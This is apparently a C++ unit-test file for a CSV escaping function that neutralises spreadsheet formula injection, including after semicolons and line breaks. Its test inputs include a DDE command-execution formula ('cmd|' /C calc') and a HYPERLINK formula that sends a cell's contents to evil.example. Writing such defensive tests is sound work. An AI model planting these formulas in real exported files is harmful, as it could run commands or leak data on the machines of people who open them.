// Tests of CSV cells.
#include "services/common/csv.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace jalon {
namespace {

TEST(CsvFieldTest, QuotesWhatNeedsIt) {
  EXPECT_EQ(CsvField("plain"), "plain");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  // French spreadsheets split on semicolons: a formula must not hide after
  // one.
  EXPECT_EQ(CsvField("Retards;=cmd|' /C calc'!A0"),
            "\"Retards;'=cmd|' /C calc'!A0\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvField(""), "");
}

TEST(CsvFieldTest, TextASpreadsheetWouldRunIsNeutralised) {
  EXPECT_EQ(CsvField("=1+1"), "'=1+1");
  EXPECT_EQ(CsvField("@SUM(A1:A2)"), "'@SUM(A1:A2)");
  EXPECT_EQ(CsvField("-2+3"), "'-2+3");
  EXPECT_EQ(CsvField("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(CsvField("\tx"), "'\tx");
  EXPECT_EQ(
      CsvField("=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Voir\")"),
      "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"Voir\"\")\"");
  // Numbers stay numbers.
  EXPECT_EQ(CsvField("-12"), "-12");
  EXPECT_EQ(CsvField("-1.5e3"), "-1.5e3");
  EXPECT_EQ(CsvField("+3"), "+3");
  EXPECT_EQ(CsvField("2026-01-01"), "2026-01-01");
}

// What a spreadsheet splitting on semicolons sees of `line`, at worst: a
// quote is a qualifier only at the start of its cell, so in every column
// but the first it is text, and semicolons and line breaks split anyway.
std::vector<std::string> SemicolonCells(const std::string& line) {
  std::vector<std::string> cells(1);
  for (char c : line) {
    if (c == ';' || c == '\n' || c == '\r') {
      cells.emplace_back();
    } else {
      cells.back() += c;
    }
  }
  for (auto& c : cells) {
    if (!c.empty() && c[0] == '"') c.erase(0, 1);
  }
  return cells;
}

TEST(CsvFieldTest, NoFormulaStartsACellAfterASemicolonOrALineBreak) {
  for (const std::string text :
       {"Ferraille;=cmd|' /C calc'!A0;x", "en attente\n=1+1;", "a;+b\r\n@c",
        "x;-y;\t=z", "=1;=2"}) {
    // In the second column, after an id, as in the report's tables.
    const std::string line = "01JID," + CsvField(text) + ",3";
    for (const std::string& cell : SemicolonCells(line)) {
      EXPECT_TRUE(cell.empty() ||
                  std::string("=+-@\t").find(cell[0]) == std::string::npos)
          << text << " gives a cell " << cell;
    }
  }
  // Numbers after a semicolon stay numbers.
  EXPECT_EQ(CsvField("1;-2;+3"), "\"1;-2;+3\"");
  // Nothing else changes.
  EXPECT_EQ(CsvField("a;b\nc"), "\"a;b\nc\"");
}

}  // namespace
}  // namespace jalon
